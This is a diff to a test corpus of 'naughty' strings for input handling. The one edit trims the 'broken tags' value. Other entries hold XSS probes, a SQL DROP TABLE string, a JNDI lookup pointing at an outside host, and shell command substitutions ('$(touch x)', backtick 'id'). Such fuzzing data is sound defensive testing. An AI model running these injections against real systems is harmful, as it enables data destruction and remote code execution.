@@ -34,7 +34,7 @@ NAUGHTY = {
     "letters that grow": "ȺȾ İı ŉ ẞß ΐ ﬃ ﷺ ǆ K",  # lower, upper or NFKC forms are longer or shorter
     "characters that are none": "\ufffe\uffff\ufdd0 \U0001fffe\U0010ffff \ue000\U000f0000\U00100000 \ufffd",
     "scripts to run": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>javascript:alert(1)",
-    "broken tags": "<<b><i </ <a href='x\"> <b/<i></b></i><!-- <!--> --!> <![CDATA[ ]]> <?x ?> </> <3 < b &lt;b&gt; &#0;",
+    "broken tags": "<<b><i <a href='x\"> <b/<i></b></i><!-- <!--> --!> <![CDATA[ ]]> <?x ?> </> <3 < b &lt;b&gt; &#0;",
     "broken entities": "&#; &#x; &#99999999; &#x110000; &#55296; &amp &ampamp; &nosuch; &NotEqualTilde; &fjlig; &#128;",
     "broken style": "<p style=';:;color:;:red;}{ url(( \"' /* !important'>x</p><style>}{ @media { .a{ </style>",
     "injection": "'; DROP TABLE messages;-- ${jndi:ldap://oak.com/a} {{7*7}} %s%n%x {text} $(touch x) `id` %00 \\u0000",
